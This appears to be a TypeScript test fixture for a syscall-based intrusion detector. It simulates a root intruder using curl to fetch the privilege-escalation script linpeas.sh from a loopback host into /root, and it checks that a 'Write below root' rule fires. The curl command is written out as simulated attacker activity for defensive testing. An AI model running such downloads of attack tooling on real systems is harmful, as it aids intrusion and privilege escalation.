/**
 * event-generator WriteBelowRoot: a root intruder on the node downloads a
 * privilege-escalation audit script into root's home.
 */
import type { Scenario } from '../../../../src/syscall/synth.js';
import type { Expectations } from '../../syscall.test.js';
import { hostSession } from '../fixtures.js';

export const expectations: Expectations = {
  upstream: { file: 'falco-sandbox_rules.yaml', rule: 'Write below root' },
  tiercel: ['Write Below /root'],
};

export default function build(s: Scenario): void {
  const { shell } = hostSession(s);
  const curl = shell.spawn({ exe: 'curl', exepath: '/usr/bin/curl', args: ['-s', '-o', '/root/linpeas.sh', 'http://127.0.0.1:8000/linpeas.sh'] });
  const sock = curl.connect('127.0.0.1', 8000);
  const out = curl.open('/root/linpeas.sh', { mode: 'w', create: true, trunc: true });
  curl.read(sock, '#!/bin/sh');
  curl.write(out, '#!/bin/sh');
  curl.close(out);
  curl.exit();
}
